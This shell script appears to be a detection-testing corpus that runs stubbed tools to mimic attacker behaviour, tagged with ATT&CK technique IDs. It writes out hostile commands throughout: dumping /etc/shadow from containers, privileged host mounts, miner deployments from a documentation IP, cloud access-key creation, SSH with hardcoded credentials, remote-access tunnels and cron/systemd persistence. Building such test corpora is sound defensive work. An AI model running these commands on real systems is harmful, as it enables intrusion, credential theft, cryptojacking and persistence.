#!/bin/sh
# MALICIOUS-behaviour corpus sample (harmless). Each tool is a busybox stub that exits 127;
# connections go to 127.0.0.1 only and are refused. Programs are called by full path so that
# every exec is visible (busybox's shell runs some applets without exec).
B=/usr/bin
echo "[corpus] container administration (T1609, T1610, T1612, T1525, T1053.007, T1059.013)"
$B/docker exec -i web-1 sh -c 'cat /etc/shadow' 2>/dev/null
$B/docker run -d --privileged -v /:/host alpine:3.19 sleep 3600 2>/dev/null
$B/docker build -t registry.example.test/base/python:3.11 /tmp 2>/dev/null
$B/docker commit web-1 registry.example.test/base/python:3.11 2>/dev/null
$B/docker push registry.example.test/base/python:3.11 2>/dev/null
$B/crictl exec -it 3f2a1c sh 2>/dev/null
$B/kubectl exec -n prod api-0 -- /bin/sh -c id 2>/dev/null
$B/kubectl cp /tmp/agent prod/api-0:/tmp/agent 2>/dev/null
$B/kubectl create deployment xmr --image=203.0.113.7/xmr:latest 2>/dev/null
$B/kubectl create cronjob updater --image=203.0.113.7/u:1 '--schedule=*/10 * * * *' -- /bin/sh -c 'sleep 1' 2>/dev/null
/bin/wget -q -O /dev/null --post-data='{"Image":"alpine","HostConfig":{"Privileged":true}}' http://127.0.0.1:2375/containers/create 2>/dev/null
/bin/wget -q -O /dev/null "http://127.0.0.1:8001/api/v1/namespaces/default/pods/web/exec?command=id&stdout=true" 2>/dev/null

echo "[corpus] cloud API changes (T1059.009)"
$B/aws iam create-access-key --user-name backup 2>/dev/null
$B/aws ec2 run-instances --image-id ami-0abc --count 4 --instance-type c5.4xlarge 2>/dev/null
$B/gcloud compute instances create miner-1 --zone us-central1-a 2>/dev/null

echo "[corpus] lateral movement (T1021.004, T1570, T1563.001, T1021.005, T1072)"
$B/ssh -i /root/.ssh/id_ed25519 -o StrictHostKeyChecking=no deploy@203.0.113.7 'id; uname -a' 2>/dev/null
$B/sshpass -p hunter2 ssh -o StrictHostKeyChecking=no root@198.51.100.9 id 2>/dev/null
$B/scp -i /root/.ssh/id_ed25519 /tmp/agent root@198.51.100.9:/tmp/agent 2>/dev/null
$B/rsync -az /tmp/tools/ 203.0.113.7:/usr/local/bin/ 2>/dev/null
/bin/env SSH_AUTH_SOCK=/tmp/ssh-AbC123/agent.4242 $B/ssh-add -l 2>/dev/null
$B/ansible all -i /tmp/hosts -m shell -a 'id' 2>/dev/null
$B/vncviewer 127.0.0.1:0 2>/dev/null
/bin/nc -w 1 127.0.0.1 5900 </dev/null 2>/dev/null

echo "[corpus] remote access tools (T1219, T1219.001, T1219.002)"
$B/tmate -S /tmp/.t.sock new-session -d 2>/dev/null
$B/code tunnel --accept-server-license-terms --name build-7 2>/dev/null
$B/anydesk --service 2>/dev/null

echo "[corpus] services and scheduled jobs (T1569.003, T1569, T1053.002, T1053.006)"
printf '[Unit]\nDescription=sync\n[Timer]\nOnCalendar=*:0/15\n[Install]\nWantedBy=timers.target\n' > /etc/systemd/system/dbus-sync.timer
$B/systemctl enable --now dbus-sync.timer 2>/dev/null
/bin/start-stop-daemon --start --background --exec /bin/sleep -- 1
$B/at now + 1 minute -f /tmp/.j 2>/dev/null
printf '#!/bin/sh\n/tmp/.x/agent\n' > /var/spool/cron/atjobs/a0000101b2c3d4
$B/systemd-run '--on-calendar=*:0/15' /tmp/.x/agent 2>/dev/null
echo "[corpus] done"
exit 0
